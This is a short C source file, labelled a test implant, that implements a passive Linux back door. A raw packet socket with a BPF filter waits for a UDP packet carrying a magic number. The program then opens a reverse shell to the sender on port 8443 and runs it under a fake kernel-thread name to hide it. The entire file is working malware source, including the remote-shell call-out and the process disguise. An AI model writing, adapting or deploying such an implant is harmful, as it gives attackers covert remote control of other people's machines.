/* Test implant (never executed): a passive back door. A raw packet socket
 * with a classic BPF filter that passes only UDP datagrams whose payload
 * starts with a magic number; such a packet makes it start a shell that
 * connects back to the sender. */
#include <arpa/inet.h>
#include <linux/filter.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* ldh [12]; jeq #0x800; ldb [23]; jeq #17; ldxb 4*([14]&0xf);
 * ld [x+22]; jeq #0x5a17c0de; ret #65535; ret #0 */
static const struct sock_filter prog[] = {
	{ 0x28, 0, 0, 0x0000000c }, { 0x15, 0, 6, 0x00000800 }, { 0x30, 0, 0, 0x00000017 },
	{ 0x15, 0, 4, 0x00000011 }, { 0xb1, 0, 0, 0x0000000e }, { 0x40, 0, 0, 0x00000016 },
	{ 0x15, 0, 1, 0x5a17c0de }, { 0x06, 0, 0, 0x0000ffff }, { 0x06, 0, 0, 0x00000000 },
};

int main(void)
{
	struct sock_fprog fp = { sizeof(prog) / sizeof(prog[0]), (struct sock_filter *)prog };
	unsigned char buf[2048];
	int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	if (s < 0 || setsockopt(s, SOL_SOCKET, SO_ATTACH_FILTER, &fp, sizeof(fp)) != 0)
		return 1;
	for (;;) {
		ssize_t n = recvfrom(s, buf, sizeof(buf), 0, NULL, NULL);
		struct sockaddr_in a;
		int c;
		if (n < 42)
			continue;
		if (fork() != 0)
			continue;
		memset(&a, 0, sizeof(a));
		a.sin_family = AF_INET;
		memcpy(&a.sin_addr, buf + 26, 4);
		a.sin_port = htons(8443);
		c = socket(AF_INET, SOCK_STREAM, 0);
		if (connect(c, (struct sockaddr *)&a, sizeof(a)) == 0) {
			dup2(c, 0);
			dup2(c, 1);
			dup2(c, 2);
			execl("/bin/sh", "[kworker/0:1]", (char *)0);
		}
		_exit(0);
	}
}
